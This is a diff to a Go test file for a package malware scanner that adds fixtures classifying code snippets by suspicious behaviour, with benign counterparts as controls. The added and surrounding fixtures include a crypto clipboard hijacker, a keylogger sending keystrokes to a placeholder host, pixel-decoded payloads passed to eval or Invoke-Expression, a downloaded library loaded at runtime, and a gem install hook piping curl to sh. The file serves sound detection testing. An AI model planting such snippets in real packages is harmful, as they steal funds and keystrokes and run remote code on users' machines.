@@ -1,6 +1,7 @@
 package codescan
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/pkgward/pkgward/internal/record"
@@ -32,9 +33,15 @@ func TestBehaviourClasses(t *testing.T) {
 		{"powershell visible process", map[string]string{"tools/run.ps1": "Start-Process -FilePath $f -Wait\n"}, "silent-exec", quiet, 0},
 		{"js detached but inherited output", map[string]string{"lib/x.js": "const c = spawn(cmd, { detached: true, stdio: 'inherit' });\nc.unref();\n"}, "silent-exec", quiet, 0},
 
+		{"go hidden window at init", map[string]string{"x/x_windows.go": "package x\n\nimport (\n\t\"os/exec\"\n\t\"syscall\"\n)\n\nfunc init() {\n\tc := exec.Command(\"updater.exe\")\n\tc.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}\n\tc.Start()\n}\n"}, "silent-exec", record.High, 0},
+		{"ruby detached spawn", map[string]string{"lib/acme/daemon.rb": "pid = spawn('acme-agent', out: File::NULL, err: File::NULL, pgroup: true)\nProcess.detach(pid)\n"}, "silent-exec", record.Low, 0},
+		{"ruby waits for its child", map[string]string{"lib/acme/run.rb": "pid = spawn('make', 'all')\nProcess.wait(pid)\n"}, "silent-exec", quiet, 0},
+
 		// escaped-strings
 		{"python long escaped code", map[string]string{"acme/run.py": "exec(\"" + escHex("import os;os.system('id');print('defanged fixture, nothing to see')") + "\")\n"}, "escaped-strings", record.Low, 0},
 		{"python binary escapes", map[string]string{"acme/png.py": "MAGIC = b\"\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a\"\nNUL = \"\\x00\\x00\\x00\\x00\"\n"}, "escaped-strings", quiet, 0},
+
+		{"ruby escaped names", map[string]string{"lib/x/y.rb": strings.Repeat("a = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"\n", 8)}, "escaped-strings", record.Low, 0},
 
 		// confusable-identifier (Greek omicron, Cyrillic es)
 		{"python greek omicron", map[string]string{"acme/auth.py": "def check(tоken, token):\n    return tоken == token\n"}, "confusable-identifier", record.Medium, 0},
@@ -50,6 +57,8 @@ func TestBehaviourClasses(t *testing.T) {
 		{"js pixels evaluated at import", map[string]string{"package.json": `{"name":"x","main":"index.js"}`, "index.js": "const d = ctx.getImageData(0, 0, w, h).data; eval(String.fromCharCode(...d.filter((_, i) => i % 4 === 0)));\n"}, "image-payload", record.High, 0},
 		{"js bundle with an image decoder and a template compiler", map[string]string{"lib/bundle.js": "var PNG = require('pngjs').PNG;\nfunction decode(b) { return PNG.sync.read(b).data; }\nfunction compile(src) { return new Function('o', src); }\nconst x = eval('1+1');\nconst img = fs.readFileSync(path.join(dir, 'icon.png'));\nhttps.get(u, cb);\n"}, "image-payload", record.Info, record.Medium},
 
+		{"powershell pixels invoked", map[string]string{"tools/x.ps1": "$b = New-Object System.Drawing.Bitmap('logo.png')\n$s = ''; foreach ($x in 0..99) { $s += [char]$b.GetPixel($x, 0).R }\nInvoke-Expression $s\n"}, "image-payload", record.Medium, 0},
+
 		// dynamic-import
 		{"alias in ordinary code", map[string]string{"acme/util.py": "from os import system as s\ns('ls')\n"}, "dynamic-import", record.Low, 0},
 		{"alias in setup.py", map[string]string{"setup.py": "from os import system as s\nfrom setuptools import setup\ns('sh /tmp/x')\nsetup(name='x')\n"}, "dynamic-import", record.High, 0},
@@ -61,14 +70,20 @@ func TestBehaviourClasses(t *testing.T) {
 		{"js rundll32 opener split over lines", map[string]string{"lib/open.js": "const [cmd, ...args] = win ? [\n  'rundll32',\n  'url.dll,FileProtocolHandler'\n] : ['xdg-open'];\n"}, "native-loader-abuse", quiet, 0},
 		{"batch rundll32 opening a URL", map[string]string{"tools/open.cmd": "rundll32 url.dll,FileProtocolHandler https://example.invalid/docs\n"}, "native-loader-abuse", quiet, 0},
 
+		{"ruby loads a library it downloads", map[string]string{"lib/x/native.rb": "require 'fiddle'\nrequire 'net/http'\nFile.binwrite(path, Net::HTTP.get(URI('https://example.invalid/x.so')))\nlib = Fiddle.dlopen(path)\n"}, "native-loader-abuse", record.Medium, 0},
+
 		// clipboard-hijack
 		{"js clipper", map[string]string{"lib/x.js": "const t = await clipboardy.read();\nif (/^0x[a-fA-F0-9]{40}$/.test(t)) await clipboardy.write(ADDR);\n"}, "clipboard-hijack", record.Medium, 0},
 		{"js copy button", map[string]string{"lib/x.js": "async function copy(addr) { if (/^0x[a-fA-F0-9]{40}$/.test(addr)) await clipboardy.write(addr); }\n"}, "clipboard-hijack", quiet, 0},
+
+		{"powershell clipper", map[string]string{"tools/c.ps1": "while ($true) { $t = Get-Clipboard; if ($t -match '^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$') { Set-Clipboard -Value $mine }; Start-Sleep 1 }\n"}, "clipboard-hijack", record.Medium, 0},
 
 		// input-capture
 		{"js key hook sending", map[string]string{"lib/x.js": "const ioHook = require('iohook');\nioHook.on('keydown', (e) => fetch('https://example.invalid/k', { method: 'POST', body: String(e.keycode) }));\n"}, "input-capture", record.Medium, 0},
 		{"powershell key state", map[string]string{"tools/k.ps1": "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace W\n"}, "input-capture", record.Low, 0},
 		{"python screenshot alone", map[string]string{"acme/shot.py": "import pyautogui\n\ndef shot(p):\n    pyautogui.screenshot(p)\n"}, "input-capture", quiet, 0},
+
+		{"go key state polling", map[string]string{"x/keys.go": "package x\n\nvar getAsyncKeyState = user32.NewProc(\"GetAsyncKeyState\")\n"}, "input-capture", record.Low, 0},
 
 		// gem-install-hook, network-on-import
 		{"gem pre_install runs commands", map[string]string{"lib/rubygems_plugin.rb": "Gem.pre_install do |i|\n  system('curl -s https://example.invalid/x | sh')\nend\n"}, "gem-install-hook", record.High, 0},
